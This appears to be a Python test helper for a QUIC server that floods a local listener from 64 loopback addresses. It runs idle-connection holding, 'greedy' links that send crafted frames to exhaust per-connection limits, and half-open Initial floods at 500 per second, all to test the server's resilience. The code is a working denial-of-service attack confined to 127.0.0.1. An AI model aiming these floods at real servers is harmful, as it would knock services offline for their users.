"""Attack a listener from 64 loopback addresses: ``attack_links.py PORT KIND SECONDS``; ``test_link_floods.py`` runs it.

Kinds: ``idle`` finishes handshakes, says nothing, and dials again as soon as a link is lost; ``greedy`` makes each of
these links hold as much as its limits let it; ``half-open`` sends first Initials with connection IDs of its own, 500 a
second, and never goes on; ``single`` is ``idle`` from one address alone. It prints a line when it is at full strength,
and yields to its victim, from whom it would take no CPU if it were where attackers are.
"""

from __future__ import annotations

import asyncio
import itertools
import logging
import os
import socket
import ssl
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator

from aioquic import tls
from aioquic.buffer import Buffer, encode_uint_var
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection, QuicConnectionState
from aioquic.quic.crypto import CryptoPair
from aioquic.quic.packet import QuicProtocolVersion, pull_quic_header

ADDRESSES = [f"127.0.0.{2 + n}" for n in range(64)]
STRENGTH = {
    "idle": ("finished", 128),
    "greedy": ("greedy", 64),
    "half-open": ("initials", 500),
    "single": ("dialled", 256),
}
HALF_OPEN_PER_S = 500
HOLD_S = 12.0
"""Longer than the host waits for a Hello."""

counts: Counter[str] = Counter()


class Cheap(QuicConnection):
    """A client that offers one key share, so that the attacker computes less than its victim."""

    def _initialize(self, peer_cid: bytes) -> None:
        super()._initialize(peer_cid)
        self.tls._supported_groups = [tls.Group.X25519]


def configuration() -> QuicConfiguration:
    return QuicConfiguration(
        alpn_protocols=["pkf1"],
        idle_timeout=30,
        is_client=True,
        max_datagram_frame_size=65535,
        server_name="punktfunk",
        verify_mode=ssl.CERT_NONE,
    )


class Attacker:
    """One link from one address."""

    def __init__(self, address: str, port: int) -> None:
        self.quic = Cheap(configuration=configuration())
        self.target = ("127.0.0.1", port)
        self.loop = asyncio.get_running_loop()
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK)
        self.socket.bind((address, 0))
        self.socket.connect(self.target)
        self.deaf = False
        """Its own QUIC has no part in what it attacks with, and would close the link over the answers."""
        self.changed = asyncio.Event()
        self.numbers = itertools.count(1000)
        self.loop.add_reader(self.socket.fileno(), self.readable)
        self.quic.connect(self.target, now=self.loop.time())
        self.pump()

    def readable(self) -> None:
        try:
            while data := self.socket.recv(2000):
                if not self.deaf:
                    self.quic.receive_datagram(data, self.target, now=self.loop.time())
        except OSError:
            pass
        self.pump()

    def pump(self) -> None:
        for data, _ in self.quic.datagrams_to_send(now=self.loop.time()):
            self.send(data)
        while self.quic.next_event() is not None:
            pass
        self.changed.set()

    def send(self, data: bytes) -> None:
        try:
            self.socket.send(data)
        except OSError:
            counts["refused"] += 1

    def attack(self, frames: bytes, number: int | None = None) -> None:
        number = next(self.numbers) if number is None else number
        header = b"\x41" + self.quic._peer_cid.cid + (number & 0xFFFF).to_bytes(2, "big")
        sealed = self.quic._cryptos[tls.Epoch.ONE_RTT].encrypt_packet(header, frames.ljust(4, b"\0"), number)
        self.send(sealed)

    def is_over(self) -> bool:
        return self.quic._state not in (QuicConnectionState.FIRSTFLIGHT, QuicConnectionState.CONNECTED)

    def is_confirmed(self) -> bool:
        return self.quic._handshake_confirmed and not self.is_over()

    async def until(self, what: Callable[[], bool], limit_s: float) -> bool:
        deadline = self.loop.time() + limit_s
        while not what() and not self.is_over():
            self.changed.clear()
            due = min(deadline, self.quic.get_timer() or deadline)
            try:
                async with asyncio.timeout_at(due):
                    await self.changed.wait()
            except TimeoutError:
                if self.loop.time() >= deadline:
                    return False
                self.quic.handle_timer(now=self.loop.time())
                self.pump()
        return what()

    def close(self) -> None:
        self.loop.remove_reader(self.socket.fileno())
        self.socket.close()


def be_greedy(link: Attacker) -> None:
    """Hold what a link may hold: an unfinished message, holes, TLS bytes, connection IDs, unanswered packets."""
    varint = encode_uint_var
    link.deaf = True
    link.attack(b"\x0e\x00\x00" + varint(2) + b"\xff\xff")
    for at in range(2, 8000, 1000):
        link.attack(b"\x0e\x00" + varint(at) + varint(1000) + bytes(1000))
    for at in range(8500, 16000, 250):
        link.attack(b"\x0e\x00" + varint(at) + b"\x01x")
    begin = link.quic._crypto_streams[tls.Epoch.ONE_RTT].sender.highest_offset
    link.attack(b"\x06" + varint(begin) + b"\x04\x04\xff\xff\xff")
    for at in range(begin + 4, begin + 7000, 1100):
        link.attack(b"\x06" + varint(at) + varint(1100) + bytes(1100))
    for sequence in range(1, 100):
        link.attack(b"\x19" + varint(sequence))
    for number in range(3000, 3400, 2):
        link.attack(b"\x01\x05\x00\x00", number)


async def hold_links(address: str, port: int, *, greedy: bool) -> None:
    while True:
        link = Attacker(address, port)
        counts["dialled"] += 1
        try:
            if await link.until(link.is_confirmed, 5):
                counts["finished"] += 1
                if greedy:
                    be_greedy(link)
                    counts["greedy"] += 1
                await link.until(link.is_over, HOLD_S)
        finally:
            link.close()


def first_initials(port: int) -> Iterator[bytes]:
    """Give Initials of one ClientHello, each under a connection ID of its own."""
    quic = Cheap(configuration=configuration())
    quic.connect(("127.0.0.1", port), now=0.0)
    [(datagram, _), *_] = quic.datagrams_to_send(now=0.0)
    buffer = Buffer(data=datagram)
    header = pull_quic_header(buffer, host_cid_length=8)
    offset = buffer.tell()
    sealed = datagram[: header.packet_length]
    client_side, host_side = CryptoPair(), CryptoPair()
    host_side.setup_initial(header.destination_cid, is_client=False, version=QuicProtocolVersion.VERSION_1)
    plain_header, payload, number = host_side.decrypt_packet(sealed, offset, 0)
    while True:
        cid = os.urandom(8)
        client_side.setup_initial(cid, is_client=True, version=QuicProtocolVersion.VERSION_1)
        fresh = plain_header[:6] + cid + plain_header[14:]
        yield client_side.encrypt_packet(fresh, payload, number).ljust(1200, b"\0")


async def half_open(port: int) -> None:
    sockets = []
    for address in ADDRESSES:
        sockets.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK))
        sockets[-1].bind((address, 0))
    initials = first_initials(port)
    begun = time.monotonic()
    for number in itertools.count():
        try:
            sockets[number % len(sockets)].sendto(next(initials), ("127.0.0.1", port))
            counts["initials"] += 1
        except OSError:
            counts["refused"] += 1
        ahead = begun + number / HALF_OPEN_PER_S - time.monotonic()
        if ahead > 0.01:
            await asyncio.sleep(ahead)


async def main(port: int, kind: str, seconds: float) -> None:
    addresses = ADDRESSES[:1] * 64 if kind == "single" else ADDRESSES
    if kind == "half-open":
        tasks = [asyncio.create_task(half_open(port))]
    else:
        tasks = [
            asyncio.create_task(hold_links(address, port, greedy=kind == "greedy"))
            for address in addresses
            for _ in range(1 if kind == "greedy" else 2)
        ]
    name, number = STRENGTH[kind]
    while counts[name] < number and not any(task.done() for task in tasks):
        await asyncio.sleep(0.1)
    print("at full strength", flush=True)
    await asyncio.wait(tasks, timeout=seconds, return_when=asyncio.FIRST_COMPLETED)
    for task in tasks:
        if task.done():
            task.result()
        task.cancel()


if __name__ == "__main__":
    os.nice(10)
    logging.disable()
    asyncio.run(main(int(sys.argv[1]), sys.argv[2], float(sys.argv[3])))
